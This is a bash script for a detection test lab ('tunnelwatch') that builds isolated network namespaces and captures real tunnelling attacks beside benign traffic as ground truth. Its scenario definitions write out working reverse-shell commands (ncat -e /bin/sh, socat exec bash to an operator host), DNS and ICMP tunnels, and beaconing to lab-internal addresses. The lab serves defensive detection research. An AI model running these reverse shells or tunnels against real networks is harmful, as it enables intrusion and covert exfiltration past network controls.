#!/usr/bin/env bash
# tunnelwatch tunnel lab: builds five network namespaces (an inside host, a second inside
# host, a proxy/resolver gateway, an outside server and a switch), runs real tunnelling
# tools and benign look-alikes between them, captures each scenario on the inside host's
# link and writes the ground truth. See tests/lab/tunnels/README.md.
# Usage: sudo tests/lab/tunnels/run.sh [--out DIR] [--only a,b,..] [--serial] [--list]
set -Eeuo pipefail

LAB_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUT=$LAB_DIR
ONLY=""
LIST=0
KEEP=0
SERIAL=0
usage() {
    cat <<EOF
usage: $0 [--out DIR] [--only NAME[,NAME...]] [--serial] [--list] [--keep-logs]
  --out DIR   write DIR/truth.json and DIR/captures/*.pcap (default: $LAB_DIR)
  --only ...  run only these scenarios (truth.json then lists only those)
  --serial    run the second inside host's scenarios after the first's, not beside them
  --list      list the scenarios and exit
  --keep-logs keep the scratch dir (tool output, tcpdump logs) even on success
Must run as root (namespaces, raw sockets, TUN); installs missing tools with apt-get.
EOF
}
while [[ $# -gt 0 ]]; do
    case $1 in
        --out) OUT=$2; shift 2 ;;
        --out=*) OUT=${1#--out=}; shift ;;
        --only) ONLY=$2; shift 2 ;;
        --only=*) ONLY=${1#--only=}; shift ;;
        --serial) SERIAL=1; shift ;;
        --list) LIST=1; shift ;;
        --keep-logs) KEEP=1; shift ;;
        -h|--help) usage; exit 0 ;;
        *) usage >&2; exit 2 ;;
    esac
done

# ---------------------------------------------------------------------------- lab plan
NS_SW=twtun-sw NS_IN=twtun-in NS_IN2=twtun-in2 NS_GW=twtun-gw NS_OUT=twtun-out
ALL_NS="$NS_IN $NS_IN2 $NS_GW $NS_OUT $NS_SW"
IN4=10.78.0.1  GW4=10.78.0.2  SRV4=10.78.0.3  C2=10.78.0.4  IN24=10.78.0.5
IN6=fd78::1    GW6=fd78::2    SRV6=fd78::3    C26=fd78::4   IN26=fd78::5
PROXY=$GW4:3128                 # tinyproxy on the gateway
IODINE_NET=10.78.9.1/27         # iodine's tunnel subnet (inside the lab namespaces only)
IODINE_SRV=10.78.9.1
SNAP=1514                       # capture snap length: whole Ethernet frames (MTU 1500)
KEEPB=16384                     # TCP payload kept per direction of a connection
MAXPKT=20000                    # hard cap on packets per capture
PATHS=/usr/sbin:/usr/bin:/sbin:/bin
PY=/usr/bin/python3
T0=$(date +%s)

log() { printf '%s\n' "$*" >&2; }
die() { log "run.sh: $*"; exit 1; }

# ---------------------------------------------------------------------------- tools
need_pkgs() {
    local -a miss=()
    local c p
    for c in tcpdump:tcpdump ip:iproute2 ss:iproute2 ethtool:ethtool ssh:openssh-client \
             scp:openssh-client ssh-keygen:openssh-client curl:curl dig:bind9-dnsutils \
             dnsmasq:dnsmasq-base openssl:openssl socat:socat ncat:ncat ping:iputils-ping \
             tinyproxy:tinyproxy proxytunnel:proxytunnel hts:httptunnel htc:httptunnel \
             iodine:iodine iodined:iodine ptunnel-ng:ptunnel-ng dns2tcpd:dns2tcp \
             dns2tcpc:dns2tcp stunnel4:stunnel4 setsid:util-linux timeout:coreutils; do
        p=${c#*:}; c=${c%%:*}
        PATH=$PATHS command -v "$c" >/dev/null || miss+=("$p")
    done
    [[ -x /usr/sbin/sshd ]] || miss+=(openssh-server)
    [[ -x $PY ]] || miss+=(python3)
    printf '%s\n' "${miss[@]}" | sort -u | grep -v '^$' || true
}
install_tools() {
    local pkgs
    pkgs=$(need_pkgs)
    [[ -z $pkgs ]] && return 0
    log "installing: $(echo $pkgs)"
    export DEBIAN_FRONTEND=noninteractive
    apt-get update -qq >/dev/null
    # shellcheck disable=SC2086
    apt-get install -y -qq --no-install-recommends $pkgs >/dev/null
    [[ -z $(need_pkgs) ]] || die "could not install: $(need_pkgs | tr '\n' ' ')"
}

# ---------------------------------------------------------------------------- scenarios
# add NAME KIND TOOL LANE CLIENT SERVER VIA EXPECT_RULES INCIDENTAL DESCRIPTION \
#     SERVER_NS SERVER_CMD SERVER_READY CLIENT_CMD
# LANE A runs on the inside host twtun-in ($IN4), lane B on twtun-in2 ($IN24); the two
# lanes run side by side (each captured on its own link). SERVER_CMD (optional) is
# started in SERVER_NS before the capture and stopped after it; SERVER_READY is
# tcp:ADDR:PORT | udp:ADDR:PORT | log:TEXT | sleep:SECS. CLIENT_CMD is the bash text
# run in the lane's namespace, in the scratch dir, while tcpdump captures.
SCEN=()
ORDER=()
add() {
    [[ $# -eq 14 ]] || { echo "run.sh: scenario $1 has $# fields, not 14" >&2; exit 2; }
    SCEN+=("$(printf '%s\x1f' "$@")")
    ORDER+=("$1")
}
declare -A FAR   # the real far end where the capture shows a proxy, resolver or tunnel peer
far() { FAR[$1]=$2; }
SSH="ssh -F ssh_config"
CURLP="curl -sS -o /dev/null --max-time 10 -x http://$PROXY"
WAITPORT='for n in $(seq 100); do ss -Hltn "sport = :2222" | grep -q . && break; sleep 0.1; done'

# -- lane A: interactive sessions, shells, tunnels (inside host 10.78.0.1) -------------
add ssh_via_connect attack proxytunnel A $IN4 $GW4 "$PROXY" \
    "connect_without_tls connect_port_policy interactive_in_other_protocol" "ssh_in_http keystrokes" \
    "SSH through the HTTP proxy: ssh's ProxyCommand proxytunnel sends 'CONNECT $SRV4:22' to tinyproxy, then the SSH banners and an interactive session (6 commands typed one key at a time, 150-400 ms between keys) flow inside the proxy connection (the seed's 1.2.1 example)" \
    "" "" "" \
    "timeout 60 python3 tunlab.py type ssh_via_connect short -- $SSH -tt -o 'ProxyCommand=proxytunnel -q -p $PROXY -d %h:%p' root@$SRV4"
add reverse_shell_via_connect attack ncat A $IN4 $GW4 "$PROXY" \
    "connect_without_tls reverse_shell" "" \
    "reverse shell through the HTTP proxy (the seed's 1.1.1 example): 'ncat --proxy $PROXY $C2 443 -e /bin/sh' on the inside host; after the proxy's 200 the operator at $C2:443 sends 6 commands (each line leaves whole on Enter, typing time 150-400 ms per key before it), the shell's output comes back; no TLS" \
    "$NS_OUT" "timeout 60 python3 tunlab.py operator $C2 443 line rs_via_connect short" "log:listening" \
    "timeout 60 ncat --proxy $PROXY --proxy-type http $C2 443 -e /bin/sh"
add reverse_shell_80 attack ncat A $IN4 $C2 "" \
    "reverse_shell foreign_protocol_on_port" "" \
    "raw reverse shell to port 80: 'ncat $C2 80 -e /bin/sh' connects out from the inside host; the operator's listener (like 'nc -lvnp 80' in a cooked terminal) sends 8 command lines, each after its typing time (150-400 ms per key), and reads the output; the server talks first and no HTTP is ever sent" \
    "$NS_OUT" "timeout 60 python3 tunlab.py operator $C2 80 line rs_80 line8" "log:listening" \
    "timeout 60 ncat $C2 80 -e /bin/sh"
add reverse_shell_443 attack socat A $IN4 $C2 "" \
    "reverse_shell foreign_protocol_on_port keystrokes" "" \
    "fully interactive reverse shell to port 443: socat runs 'bash -li' on a pty and connects out to $C2:443; the operator (raw terminal, like 'socat file:\`tty\`,raw,echo=0 tcp-listen:443') types 12 commands one key per packet, 150-400 ms apart; the pty echoes every key; no TLS" \
    "$NS_OUT" "timeout 90 python3 tunlab.py operator $C2 443 char rs_443 recon" "log:listening" \
    "timeout 90 env TERM=xterm socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:$C2:443"
add httptunnel_ssh attack httptunnel A $IN4 $GW4 "$PROXY" \
    "interactive_in_other_protocol ssh_in_http" "keystrokes signature" \
    "HTTP tunnel (GNU httptunnel) through the proxy: htc on the inside host forwards local port 2222 as a long POST (client to server data, Content-Length 102400) and a long GET (server to client) to hts on $C2:80, which forwards to sshd $SRV4:22; an interactive SSH session (6 commands typed one key at a time) runs through it" \
    "$NS_OUT" "exec timeout 90 hts -w -F $SRV4:22 $C2:80" "tcp:$C2:80" \
    "timeout 70 htc -w -P $PROXY -F 2222 $C2:80 & h=\$!; $WAITPORT; timeout 60 python3 tunlab.py type httptunnel_ssh short -- $SSH -tt -p 2222 root@127.0.0.1; kill \$h; wait \$h || true"
add dns_tunnel_iodine attack iodine A $IN4 $GW4 "$GW4:53" \
    "dns_tunnel" "" \
    "IP over DNS with iodine 0.7.0: the inside host's iodine queries the gateway's resolver (dnsmasq $GW4), which forwards t.lab.test to iodined on $SRV4; raw mode off (-r), so everything goes by DNS (NULL queries, Base128 upstream, lazy mode); through the tunnel: 5 pings to $IODINE_SRV and an SSH command printing /etc/services (~12 KB)" \
    "$NS_OUT" "exec timeout 90 iodined -f -c -P labpass -l $SRV4 $IODINE_NET t.lab.test" "udp:$SRV4:53" \
    "timeout 60 iodine -f -r -P labpass $GW4 t.lab.test >iodine-client.log 2>&1 & i=\$!; for n in \$(seq 150); do grep -q 'Connection setup complete' iodine-client.log && break; sleep 0.2; done; ping -c 5 -i 0.5 $IODINE_SRV; timeout 40 $SSH root@$IODINE_SRV 'cat /etc/services; id' | wc -c; kill \$i; wait \$i || true"
add dns_tunnel_dns2tcp attack dns2tcp A $IN4 $GW4 "$GW4:53" \
    "dns_tunnel" "" \
    "TCP over DNS with dns2tcp 0.5.2: dns2tcpc on the inside host asks the gateway's resolver, which forwards d.lab.test to dns2tcpd on $C2 (resource ssh = $SRV4:22); an SSH command printing 8 KB, idling 3 s and printing id runs through local port 2222 (TXT queries)" \
    "$NS_OUT" "exec timeout 90 dns2tcpd -F -f dns2tcpd.conf" "udp:$C2:53" \
    "timeout 60 dns2tcpc -z d.lab.test -r ssh -l 2222 $GW4 & d=\$!; $WAITPORT; timeout 40 $SSH -p 2222 root@127.0.0.1 'head -c 8000 /etc/services; sleep 3; id' | wc -c; kill \$d; wait \$d || true"
add icmp_tunnel_ptunnel attack ptunnel-ng A $IN4 $SRV4 "" \
    "icmp_tunnel" "signature" \
    "TCP over ICMP echo with ptunnel-ng 1.42: the client on the inside host listens on 2222 and carries the TCP stream in echo requests to the ptunnel-ng proxy on $SRV4 (which answers with crafted echo replies; its kernel's own echo replies are off during this scenario), forwarded to sshd $SRV4:22; an SSH command printing 12 KB, idling 3 s and printing id runs through it" \
    "$NS_OUT" "sysctl -qw net.ipv4.icmp_echo_ignore_all=1 && exec timeout 60 ptunnel-ng -r$SRV4 -R22 -v 1" "sleep:1" \
    "timeout 40 ptunnel-ng -p$SRV4 -l2222 -r$SRV4 -R22 -v 1 & p=\$!; $WAITPORT; timeout 30 $SSH -p 2222 root@127.0.0.1 'head -c 12000 /etc/services; sleep 3; id' | wc -c; kill \$p; wait \$p || true"
add tls_tunnel_ssh attack stunnel4 A $IN4 $C2 "" \
    "interactive_in_other_protocol" "keystrokes" \
    "SSH inside TLS on port 443 with stunnel: the inside host's stunnel (client mode) wraps local port 2222 in TLS to stunnel on $C2:443, which forwards to sshd $SRV4:22; an interactive session (6 commands typed one key at a time) runs through it. The wire shows a genuine TLS handshake to 443, so only sizes and timing (one small TLS record per key) give it away" \
    "$NS_OUT" "exec timeout 60 stunnel4 stunnel-server.conf" "tcp:$C2:443" \
    "timeout 50 stunnel4 stunnel-client.conf & t=\$!; $WAITPORT; timeout 45 python3 tunlab.py type tls_tunnel_ssh short -- $SSH -tt -p 2222 root@127.0.0.1; kill \$t; wait \$t || true"
add ssh_interactive benign ssh A $IN4 $SRV4 "" \
    "" "keystrokes" \
    "interactive SSH session (OpenSSH 9.2p1, chacha20-poly1305, no keystroke-timing obfuscation: that came with 9.5): 'ssh -tt' on a pseudo-terminal; 12 commands typed one key at a time, 150-400 ms between keys, 0.4-1.0 s thinking after each output; every key is one encrypted packet and the server's echo another" \
    "" "" "" \
    "timeout 90 python3 tunlab.py type ssh_interactive recon -- $SSH -tt root@$SRV4"
add stepping_stone attack ssh A $C2,$IN4 $IN4,$SRV4 "$IN4:22" \
    "stepping_stone" "keystrokes" \
    "a stepping stone: from the attacker's host $C2 an interactive SSH session into the inside host $IN4, and from there onward by SSH into $SRV4, where 6 commands are typed one key at a time; every key crosses the inside host's link twice (in, then out) a few milliseconds apart" \
    "$NS_IN" "exec timeout 90 /usr/sbin/sshd -D -e -f sshd_in_config" "tcp:0.0.0.0:22" \
    "timeout 60 ip netns exec $NS_OUT env PATH=$PATHS TERM=xterm python3 tunlab.py type stepping_stone short -- ssh -F ssh_config -tt -b $C2 root@$IN4 \"ssh -F \$PWD/ssh_config -tt root@$SRV4\""
add benign_parallel_sessions benign ssh A $C2,$IN4 $IN4,$SRV4 "" \
    "" "keystrokes" \
    "the look-alike: at the same time, an administrator at $C2 types into the inside host $IN4 and the inside host's own user types into $SRV4 — two unrelated interactive sessions through one host, each with its own rhythm" \
    "$NS_IN" "exec timeout 90 /usr/sbin/sshd -D -e -f sshd_in_config" "tcp:0.0.0.0:22" \
    "(timeout 60 ip netns exec $NS_OUT env PATH=$PATHS TERM=xterm python3 tunlab.py type parallel_admin short -- ssh -F ssh_config -tt -b $C2 root@$IN4 >/dev/null) & a=\$!; timeout 60 python3 tunlab.py type parallel_user recon -- $SSH -tt root@$SRV4; wait \$a"
add response_without_request attack python3 A $IN4 $C2 "" \
    "response_without_request" "" \
    "HTTP responses without requests on port 80 (hand-written, python): 1) the client connects and sends nothing, the server pushes two HTTP responses; 2) one GET answered by three responses; 3) the client sends an HTTP response itself and gets one back" \
    "$NS_OUT" "timeout 30 python3 tunlab.py respserver $C2 80 3" "log:listening" \
    "timeout 20 python3 tunlab.py rawhttp $C2 80 respfirst"
add benign_ping benign ping A $IN4,$IN6 $SRV4,$SRV6,$GW4 "" \
    "" "" \
    "ordinary pings: 10 to the outside server over IPv4, 10 over IPv6, 5 to the gateway (iputils, 56-byte payload, 200 ms apart)" \
    "" "" "" \
    "ping -c 10 -i 0.2 $SRV4; ping -c 10 -i 0.2 $SRV6; ping -c 5 -i 0.2 $GW4"

far ssh_via_connect $SRV4:22
far reverse_shell_via_connect $C2:443
far httptunnel_ssh "$C2:80 $SRV4:22"
far dns_tunnel_iodine "$SRV4:53 $IODINE_SRV"
far dns_tunnel_dns2tcp "$C2:53 $SRV4:22"
far icmp_tunnel_ptunnel $SRV4:22
far tls_tunnel_ssh $SRV4:22

# -- lane B: HTTP(S) through the proxy, DNS, scp (second inside host 10.78.0.5) -------------
add beacon attack curl B $IN24 $GW4 "$PROXY" \
    "beacon" "" \
    "beacon: curl GET http://$SRV4/api/v1/check?host=ws05 through the proxy every 2.0 s with +-50 ms jitter, 20 times (a new proxy connection each time)" \
    "" "" "" \
    "timeout 70 python3 tunlab.py periodic 'http://$SRV4/api/v1/check?host=ws05' 20 2.0 -0.05 0.05 beacon -x http://$PROXY"
add repeated_fetch attack curl B $IN24 $GW4 "$PROXY" \
    "beacon" "" \
    "one user fetching a few resources too often (seed trace 4): 60 GETs through the proxy of 3 URLs in turn, 50-350 ms apart (irregular, but about 1.5 requests/s per URL)" \
    "" "" "" \
    "timeout 60 python3 tunlab.py burst 60 0.05 0.35 repeated_fetch http://$SRV4/page3.html http://$SRV4/page7.html http://$SRV4/api/v1/status -- -x http://$PROXY"
add upload_post attack curl B $IN24 $GW4 "$PROXY" \
    "upload_volume" "" \
    "large uploads through the proxy (seed trace 1): curl POSTs 2 MiB and 1.5 MiB and PUTs 1 MiB of random data to http://$SRV4/upload/ (python server answers 201)" \
    "" "" "" \
    "$CURLP --data-binary @up-2m.bin -H 'Content-Type: application/octet-stream' http://$SRV4/upload/a.bin && $CURLP --data-binary @up-1m5.bin -H 'Content-Type: application/octet-stream' http://$SRV4/upload/b.bin && $CURLP -T up-1m.bin http://$SRV4/upload/c.bin"
add connect_non443 attack curl B $IN24 $GW4 "$PROXY" \
    "connect_port_policy" "" \
    "CONNECT to a port other than 443: curl -k through the proxy to https://$SRV4:8443/ (3 requests); a real TLS handshake follows, so only the port breaks the CONNECT-only-to-443 policy" \
    "" "" "" \
    "for p in 1 2 3; do $CURLP -k https://$SRV4:8443/page\$p.html; done"
add http_without_host attack python3 B $IN24 $SRV4 "" \
    "http_without_host" "" \
    "three HTTP/1.1 GETs without a Host header, straight to the web server's port 80 (hand-written, python); the server answers 200" \
    "" "" "" \
    "timeout 20 python3 tunlab.py rawhttp $SRV4 80 nohost"
add exotic_method attack python3 B $IN24 $SRV4 "" \
    "exotic_method" "" \
    "four HTTP/1.1 requests with exotic methods (BREW, XYZZY, DEBUG, TRACK; with Host) to port 80; the server answers 501" \
    "" "" "" \
    "timeout 20 python3 tunlab.py rawhttp $SRV4 80 exotic"
add ssh_port_8080 attack ssh B $IN24 $SRV4 "" \
    "ssh_non_standard_port foreign_protocol_on_port" "ssh_in_http" \
    "SSH on port 8080 (sshd listens on 22 and 8080): one non-interactive session running 3 commands; SSH banners on an HTTP-alternate port" \
    "" "" "" \
    "timeout 20 $SSH -p 8080 root@$SRV4 'uname -a; id; ls /etc | wc -l'"
add benign_https_proxy benign curl B $IN24 $GW4 "$PROXY" \
    "" "" \
    "web browsing through the proxy: curl -k fetches 8 pages from https://$SRV4/ (CONNECT $SRV4:443, then a real TLS 1.3 handshake with the outside server's self-signed certificate)" \
    "" "" "" \
    "for p in 1 2 3 4 5 6 7 8; do $CURLP -k https://$SRV4/page\$p.html; sleep 0.2; done"
add benign_http_proxy benign curl B $IN24 $GW4 "$PROXY" \
    "" "" \
    "plain HTTP through the proxy: 15 different pages, GET with absolute URLs, one connection each" \
    "" "" "" \
    "for p in \$(seq 1 15); do $CURLP http://$SRV4/page\$p.html; sleep 0.1; done"
add benign_dns benign dig B $IN24,$IN26 $GW4,$GW6 "" \
    "" "" \
    "30 ordinary lookups at the gateway's resolver (dnsmasq): A, AAAA, MX, TXT of 5 lab.test names over IPv4 UDP, 5 over IPv6, 5 over TCP" \
    "" "" "" \
    "for n in www mail update proxy files; do for t in A AAAA MX TXT; do dig +tries=1 +time=2 +short @$GW4 \$n.lab.test \$t; done; done; for n in www mail update proxy files; do dig +tries=1 +time=2 +short @$GW6 \$n.lab.test AAAA; dig +tcp +tries=1 +time=2 +short @$GW4 \$n.lab.test A; done"
add benign_scp benign scp B $IN26 $SRV6 "" \
    "" "" \
    "scripted, non-interactive SSH over IPv6: scp uploads a 256 KiB file (to /dev/null) and downloads /etc/services, then one 'ssh host uptime'" \
    "" "" "" \
    "timeout 30 scp -F ssh_config -q up-256k.bin 'root@[$SRV6]:/dev/null' && timeout 30 scp -F ssh_config -q 'root@[$SRV6]:/etc/services' dl-services.txt && timeout 20 $SSH root@$SRV6 uptime"
add benign_update benign curl B $IN24 $GW4 "$PROXY" \
    "" "" \
    "software-update-like periodic fetch with large jitter: 6 GETs of http://$SRV4/updates/manifest.json through the proxy, 1-8 s apart (uniform)" \
    "" "" "" \
    "timeout 70 python3 tunlab.py periodic http://$SRV4/updates/manifest.json 6 1.0 0.0 7.0 benign_update -x http://$PROXY"

far beacon $SRV4:80
far repeated_fetch $SRV4:80
far upload_post $SRV4:80
far connect_non443 $SRV4:8443
far benign_https_proxy $SRV4:443
far benign_http_proxy $SRV4:80
far benign_update $SRV4:80

if [[ $LIST == 1 ]]; then
    for s in "${SCEN[@]}"; do
        IFS=$'\x1f' read -r -a f <<<"$s"
        printf '%-26s %-6s %-5s %-12s %s\n' "${f[0]}" "${f[1]}" "lane${f[3]}" "${f[2]}" "${f[7]:--}"
    done
    exit 0
fi
wanted() { [[ -z $ONLY ]] || [[ ",$ONLY," == *",$1,"* ]]; }
if [[ -n $ONLY ]]; then
    for n in ${ONLY//,/ }; do
        [[ " ${ORDER[*]} " == *" $n "* ]] || die "unknown scenario: $n (see --list)"
    done
fi

# ---------------------------------------------------------------------------- teardown
[[ $EUID -eq 0 ]] || die "must run as root"
exec 9>/run/twtun.lock
flock -n 9 || die "another tunnel-lab run holds /run/twtun.lock"
WORK=""
PIDS=()          # background processes this script started and has not reaped yet
forget_pid() {
    local -a keep=()
    local p
    for p in "${PIDS[@]}"; do [[ $p == "$1" ]] || keep+=("$p"); done
    PIDS=("${keep[@]}")
}
kill_ns_procs() { # everything still running inside one of our namespaces was started by us
    local ns=$1 pid
    ip netns list | grep -qw "^$ns" || return 0
    for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$pid" 2>/dev/null || true; done
}
teardown() {
    local rc=$?
    trap - EXIT INT TERM ERR
    set +e
    for pid in "${PIDS[@]}"; do kill -TERM "$pid" 2>/dev/null; done
    for pid in "${PIDS[@]}"; do wait "$pid" 2>/dev/null; done
    for ns in $ALL_NS; do
        if ip netns list | grep -qw "^$ns"; then
            kill_ns_procs "$ns"
            sleep 0.1
            ip netns del "$ns" 2>/dev/null
        fi
    done
    if [[ -n $WORK && -d $WORK ]]; then
        if [[ $rc -ne 0 ]]; then log "run.sh: failed (exit $rc); logs kept in $WORK"
        elif [[ $KEEP == 1 ]]; then log "logs kept in $WORK"
        else rm -rf "$WORK"; fi
    fi
    exit "$rc"
}
trap teardown EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

install_tools
mkdir -p "$OUT/captures"
OUT=$(cd "$OUT" && pwd)
WORK=$(mktemp -d /tmp/twtun.XXXXXX)
chmod 755 "$WORK"
cp "$LAB_DIR/tunlab.py" "$WORK/tunlab.py"
META=$WORK/scenarios.jsonl
FAILS=$WORK/failed.txt
: >"$META"
: >"$FAILS"

# a previous run that was killed hard may have left its namespaces behind
for ns in $ALL_NS; do
    if ip netns list | grep -qw "^$ns"; then
        log "removing leftover namespace $ns"
        kill_ns_procs "$ns"
        ip netns del "$ns"
    fi
done

# ---------------------------------------------------------------------------- tool versions
pkgver() { dpkg-query -W -f='${Version}' "$1" 2>/dev/null || echo '?'; }
{
    echo "openssh=$(ssh -V 2>&1)"
    echo "tinyproxy=$(tinyproxy -v 2>&1 | head -1) (Debian $(pkgver tinyproxy))"
    echo "proxytunnel=proxytunnel (Debian $(pkgver proxytunnel))"
    echo "httptunnel=$(hts --version 2>&1 | head -1) (Debian $(pkgver httptunnel))"
    echo "iodine=iodine $(iodine -v 2>&1 | sed -n 's/^version: //p') (Debian $(pkgver iodine))"
    echo "ptunnel-ng=$(ptunnel-ng --help 2>&1 | head -1) (Debian $(pkgver ptunnel-ng))"
    echo "dns2tcp=dns2tcp (Debian $(pkgver dns2tcp))"
    echo "stunnel4=$(stunnel4 -version 2>&1 | grep -m1 '^stunnel') (Debian $(pkgver stunnel4))"
    echo "ncat=$(ncat --version 2>&1 | head -1)"
    echo "socat=$(socat -V 2>/dev/null | sed -n 's/^socat version \([^ ]*\).*/socat \1/p' | head -1)"
    echo "curl=$(curl --version | head -1 | cut -d' ' -f1-3)"
    echo "dnsmasq=$(dnsmasq --version | head -1 | cut -d' ' -f1-3)"
    echo "dig=$(dig -v 2>&1 | head -1)"
    echo "openssl=$(openssl version)"
    echo "iputils-ping=Debian $(pkgver iputils-ping)"
    echo "tcpdump=$(tcpdump --version 2>&1 | head -1); $(tcpdump --version 2>&1 | sed -n 2p)"
    echo "python3=$($PY --version 2>&1)"
    echo "iproute2=$(ip -V)"
    echo "kernel=$(uname -sr)"
    echo "debian=$(cat /etc/debian_version 2>/dev/null || echo '?')"
} >"$WORK/tools.txt"
$PY - "$WORK/tools.txt" "$WORK/tools.json" <<'EOF'
import json, sys
d = dict(l.rstrip("\n").split("=", 1) for l in open(sys.argv[1]) if "=" in l)
json.dump(d, open(sys.argv[2], "w"), indent=1)
EOF

# ---------------------------------------------------------------------------- network
log "building namespaces $NS_IN $NS_IN2 $NS_GW $NS_OUT (hosts) and $NS_SW (switch)"
ip netns add $NS_SW
ip netns exec $NS_SW sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
ip -n $NS_SW link set lo up
ip -n $NS_SW link add twtbr type bridge stp_state 0 mcast_snooping 0
ip -n $NS_SW link set twtbr up
host() { # ns port addresses...
    local ns=$1 port=$2 a
    shift 2
    ip netns add "$ns"
    ip netns exec "$ns" sysctl -qw \
        net.ipv6.conf.default.accept_dad=0 net.ipv6.conf.all.accept_dad=0 \
        net.ipv6.conf.default.accept_ra=0 net.ipv6.conf.all.accept_ra=0 \
        net.ipv6.conf.default.router_solicitations=0 net.ipv6.conf.all.router_solicitations=0
    ip -n "$ns" link set lo up
    ip -n "$ns" link add eth0 type veth peer name "$port" netns $NS_SW
    ip -n $NS_SW link set "$port" master twtbr up
    # real checksums and wire-sized segments in the captures (no offloads)
    ip netns exec "$ns" ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1 || true
    ip netns exec $NS_SW ethtool -K "$port" tx off tso off gso off gro off >/dev/null 2>&1 || true
    for a in "$@"; do
        if [[ $a == *:* ]]; then ip -n "$ns" addr add "$a/64" dev eth0 nodad
        else ip -n "$ns" addr add "$a/24" dev eth0; fi
    done
    ip -n "$ns" link set eth0 up
}
host $NS_IN twp-in $IN4 $IN6
host $NS_IN2 twp-in2 $IN24 $IN26
host $NS_GW twp-gw $GW4 $GW6
host $NS_OUT twp-out $SRV4 $C2 $SRV6 $C26
for ns in $NS_IN $NS_IN2 $NS_GW $NS_OUT; do
    [[ -z $(ip -n "$ns" route show default) && -z $(ip -n "$ns" -6 route show default) ]] || die "$ns has a default route"
done

# ---------------------------------------------------------------------------- files
mkdir -p "$WORK/www/updates"
for i in $(seq 1 20); do
    { echo "<html><head><title>page $i</title></head><body><h1>lab page $i</h1>"
      for j in $(seq 1 $((i * 6))); do echo "<p>line $j of page $i: tunnelwatch tunnel lab</p>"; done
      echo "</body></html>"; } >"$WORK/www/page$i.html"
done
cp "$WORK/www/page1.html" "$WORK/www/index.html"
printf '{"product":"labapp","latest":"2.4.1","packages":[{"name":"labapp","version":"2.4.1","size":1048576}]}\n' \
    >"$WORK/www/updates/manifest.json"
head -c 2097152 /dev/urandom >"$WORK/up-2m.bin"
head -c 1572864 /dev/urandom >"$WORK/up-1m5.bin"
head -c 1048576 /dev/urandom >"$WORK/up-1m.bin"
head -c 262144 /dev/urandom >"$WORK/up-256k.bin"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 30 \
    -subj /CN=www.lab.test -addext "subjectAltName=DNS:www.lab.test,IP:$SRV4,IP:$SRV6" \
    -keyout "$WORK/tls.key" -out "$WORK/tls.crt" 2>/dev/null

ssh-keygen -q -t ed25519 -N '' -C twtun-host -f "$WORK/ssh_host_ed25519_key"
ssh-keygen -q -t ed25519 -N '' -C twtun-client -f "$WORK/id_ed25519"
cp "$WORK/id_ed25519.pub" "$WORK/authorized_keys"
cat >"$WORK/sshd_config" <<EOF
Port 22
Port 8080
ListenAddress 0.0.0.0
ListenAddress ::
HostKey $WORK/ssh_host_ed25519_key
PidFile $WORK/sshd.pid
AuthorizedKeysFile $WORK/authorized_keys
PermitRootLogin prohibit-password
PubkeyAuthentication yes
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
UseDNS no
PrintMotd no
PrintLastLog no
Subsystem sftp /usr/lib/openssh/sftp-server
LogLevel ERROR
EOF
cat >"$WORK/ssh_config" <<EOF
Host *
    IdentityFile $WORK/id_ed25519
    IdentitiesOnly yes
    BatchMode yes
    StrictHostKeyChecking no
    UserKnownHostsFile /dev/null
    GlobalKnownHostsFile /dev/null
    ConnectTimeout 10
    LogLevel ERROR
EOF
# the inside host's own sshd (stepping-stone scenarios): port 22 only, its own pid file
sed -e '/^Port 8080$/d' -e "s|^PidFile .*|PidFile $WORK/sshd_in.pid|" \
    "$WORK/sshd_config" >"$WORK/sshd_in_config"
mkdir -p /run/sshd
/usr/sbin/sshd -t -f "$WORK/sshd_config" || die "sshd config rejected"
/usr/sbin/sshd -t -f "$WORK/sshd_in_config" || die "inside sshd config rejected"
# tinyproxy: no ConnectPort line, so CONNECT is allowed to every port (the lab's
# policy violations must reach the wire); it drops to nobody and logs to stderr
cat >"$WORK/tinyproxy.conf" <<EOF
User nobody
Group nogroup
Port 3128
Listen $GW4
Timeout 60
MaxClients 50
LogLevel Info
EOF
cat >"$WORK/dns2tcpd.conf" <<EOF
listen = $C2
port = 53
user = nobody
domain = d.lab.test
resources = ssh:$SRV4:22
EOF

cat >"$WORK/stunnel-server.conf" <<EOF
foreground = yes
pid =
output = /dev/stderr
[ssh-over-tls]
accept = $C2:443
connect = $SRV4:22
cert = $WORK/tls.crt
key = $WORK/tls.key
EOF
cat >"$WORK/stunnel-client.conf" <<EOF
foreground = yes
pid =
output = /dev/stderr
client = yes
[ssh-over-tls]
accept = 127.0.0.1:2222
connect = $C2:443
EOF

# ---------------------------------------------------------------------------- services
start_bg() { # ns logfile command... (in the scratch dir, own session)
    local ns=$1 logf=$2
    shift 2
    (cd "$WORK" && exec setsid ip netns exec "$ns" env PATH=$PATHS HOME=/root "$@") >"$logf" 2>&1 &
    PIDS+=("$!")
}
ns_listening() { # ns tcp|udp addr port
    local flag=-Hltn
    [[ $2 == udp ]] && flag=-Hlun
    ip netns exec "$1" ss $flag "sport = :$4" 2>/dev/null | grep -qF "$3:$4"
}
wait_ready() { # ns spec logfile
    local ns=$1 spec=$2 logf=$3 i a p
    case $spec in
        tcp:*|udp:*)
            a=${spec#*:}; p=${a##*:}; a=${a%:*}
            for i in $(seq 150); do ns_listening "$ns" "${spec%%:*}" "$a" "$p" && return 0; sleep 0.1; done ;;
        log:*)
            for i in $(seq 150); do grep -qF "${spec#log:}" "$logf" 2>/dev/null && return 0; sleep 0.1; done ;;
        sleep:*) sleep "${spec#sleep:}"; return 0 ;;
        "") return 0 ;;
    esac
    return 1
}

log "starting services: $NS_OUT web ($SRV4, $SRV6: 80, 443, 8443) + sshd (22, 8080); $NS_GW tinyproxy ($PROXY) + dnsmasq ($GW4, $GW6)"
start_bg $NS_OUT "$WORK/web.log" $PY tunlab.py serve-web "$WORK/www" tls.crt tls.key $SRV4 $SRV6
start_bg $NS_OUT "$WORK/sshd.log" /usr/sbin/sshd -D -e -f "$WORK/sshd_config"
start_bg $NS_GW "$WORK/tinyproxy.log" tinyproxy -d -c "$WORK/tinyproxy.conf"
